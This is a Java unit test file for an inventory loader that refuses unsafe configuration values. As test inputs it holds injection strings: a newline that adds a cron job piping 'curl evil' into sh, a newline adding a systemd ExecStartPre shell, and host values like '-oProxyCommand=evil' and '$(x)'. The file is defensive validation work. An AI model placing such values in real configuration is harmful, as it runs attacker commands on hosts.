package dev.chatgeist.plugin.inventory;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.file.Path;
import org.junit.jupiter.api.Test;

/**
 * Values that would break the files rendered from them (a newline adding a cron job or a unit setting, control
 * characters, NUL) are refused at load with file, line, column, key, the problem and the fix; legal but unusual
 * values (spaces, %, Unicode in paths) pass unchanged.
 */
class ValueRulesTest {
    private static final LoaderEnvironment ENV =
            new LoaderEnvironment("alice", Path.of("/home/alice"), Platform.LINUX, "/opt/jdk/bin/java");
    private static final Path FILE = Path.of("/project/inventory.yaml");

    private static Host host(String vars) throws InventoryException {
        return new InventoryLoader(ENV)
                .parse(FILE, "all:\n  hosts:\n    s:\n      ansible_host: 192.0.2.1\n" + vars)
                .hosts()
                .get(0);
    }

    private static InventoryException error(String vars) {
        try {
            host(vars);
        } catch (InventoryException e) {
            assertThat(e.getMessage()).as("one line, whatever the value holds").doesNotContain("\n", "\r", "\0");
            return e;
        }
        throw new AssertionError("expected an inventory error for " + vars);
    }

    @Test
    void aNewlineInTheAppDirCannotAddACronJob() {
        InventoryException e = error("      chatgeist_app_dir: \"/srv/a\\n* * * * * curl evil | sh\"\n");
        assertThat(e.line()).isEqualTo(5);
        assertThat(e.column()).isEqualTo(26);
        assertThat(e.key()).isEqualTo("chatgeist_app_dir");
        assertThat(e.getMessage())
                .startsWith("/project/inventory.yaml:5:26: key 'chatgeist_app_dir' contains the "
                        + "character U+000A (line feed) at position 7 (host 's') — remove it");
    }

    @Test
    void aNewlineInTheUserCannotAddAUnitSetting() {
        InventoryException e = error("      ansible_user: \"bot\\nExecStartPre=/bin/sh -c evil\"\n");
        assertThat(e.key()).isEqualTo("ansible_user");
        assertThat(e.problem()).contains("U+000A (line feed) at position 4");
        InventoryException c = error("      chatgeist_user: \"bot\\nExecStartPre=/bin/sh\"\n");
        assertThat(c.key()).isEqualTo("chatgeist_user");
    }

    @Test
    void controlCharactersAndNulAreRefusedNotCrashed() {
        assertThat(error("      chatgeist_java: \"/usr/bin/j\\aava\"\n").problem())
                .contains("U+0007 at position 11");
        InventoryException nul = error("      chatgeist_app_dir: \"/srv/\\0x\"\n");
        assertThat(nul.problem()).contains("U+0000 (NUL) at position 6");
        assertThat(error("      chatgeist_app_dir: \"/srv/\\u2028x\"\n").problem())
                .contains("line separator");
        assertThat(error("      chatgeist_jobs: {update: \"1\\nh\"}\n").key()).isEqualTo("chatgeist_jobs.update");
        assertThat(error("      chatgeist_jobs: {update: \"0 */4 * * *\\n\"}\n").problem())
                .contains("line feed");
        assertThat(error("      chatgeist_transport: \"sshj\\r\"\n").problem()).contains("carriage return");
    }

    @Test
    void valuesInOtherMessagesAreShownOnOneLine() {
        InventoryException e = error("      chatgeist_jobs: {bot: \"x\\ny\"}\n");
        assertThat(e.key()).isEqualTo("chatgeist_jobs.bot");
        assertThat(e.problem()).contains("is \"x\\ny\"");
    }

    @Test
    void pathsKeepSpacesPercentQuotesAndUnicode() throws Exception {
        String odd = "/srv/with space/100%/%h/it's \"q\"/$(x)/`y`/</string>/ünï ✓";
        Host h = host("      chatgeist_app_dir: \"" + odd.replace("\"", "\\\"") + "\"\n");
        assertThat(h.appDir()).isEqualTo(odd);
        assertThat(host("      chatgeist_app_dir: \"~/a b\"\n").appDir()).isEqualTo("/home/alice/a b");
    }

    @Test
    void pathsThatSystemdWouldChangeAreRefused() {
        assertThat(error("      chatgeist_app_dir: \"/srv/x \"\n").getMessage())
                .contains("ends with a space")
                .contains("remove it");
        assertThat(error("      chatgeist_app_dir: \"/srv/x\\\\\"\n").getMessage())
                .contains("backslash");
        InventoryException java = error("      chatgeist_java: \"/opt/it's/java\"\n");
        assertThat(java.key()).isEqualTo("chatgeist_java");
        assertThat(java.getMessage()).contains("a quote, a backslash or $").contains("symlink");
        assertThat(error("      chatgeist_java: \"/opt/$JAVA/java\"\n").key()).isEqualTo("chatgeist_java");
    }

    @Test
    void userNamesAsPosixAllows() throws Exception {
        for (String ok : new String[] {"bot", "deploy.user", "_svc", "bot-1", "Bot", "a1"}) {
            assertThat(host("      ansible_user: \"" + ok + "\"\n").user()).isEqualTo(ok);
        }
        for (String bad : new String[] {"1000", "-bot", "bo t", "a:b", "x$y", "é", "..", "a".repeat(33)}) {
            InventoryException e = error("      chatgeist_user: \"" + bad + "\"\n");
            assertThat(e.key()).isEqualTo("chatgeist_user");
            assertThat(e.getMessage()).contains("is not a valid user name").contains("not only digits");
            assertThat(e.line()).isEqualTo(5);
        }
    }

    @Test
    void aBadLocalUserNameFromTheMachineNamesTheVariableThatFixesIt() {
        LoaderEnvironment odd =
                new LoaderEnvironment("John Smith", Path.of("/home/john"), Platform.LINUX, "/opt/jdk/bin/java");
        InventoryException e = org.junit.jupiter.api.Assertions.assertThrows(
                InventoryException.class,
                () -> new InventoryLoader(odd).parse(FILE, "all:\n  hosts:\n    me: {ansible_connection: local}\n"));
        assertThat(e.line()).isEqualTo(3);
        assertThat(e.getMessage())
                .contains("key 'chatgeist_user' is not a valid user name: \"John Smith\"")
                .contains("set chatgeist_user");
    }

    @Test
    void hostAddressesAreNamesOrIps() throws Exception {
        for (String ok : new String[] {"bot.example.org", "192.0.2.1", "2001:db8::10", "[2001:db8::10]", "h_1"}) {
            assertThat(new InventoryLoader(ENV)
                            .parse(FILE, "all:\n  hosts:\n    s: {ansible_host: \"" + ok + "\"}\n")
                            .hosts()
                            .get(0)
                            .connection()
                            .address())
                    .isEqualTo(ok);
        }
        for (String bad : new String[] {"-oProxyCommand=evil", "a b", "a;b", "a/b", "$(x)"}) {
            InventoryException e = org.junit.jupiter.api.Assertions.assertThrows(
                    InventoryException.class,
                    () -> new InventoryLoader(ENV)
                            .parse(FILE, "all:\n  hosts:\n    s: {ansible_host: \"" + bad + "\"}\n"));
            assertThat(e.key()).isEqualTo("ansible_host");
            assertThat(e.getMessage())
                    .contains("is not a host name or IP address")
                    .contains("192.0.2.10");
        }
    }
}
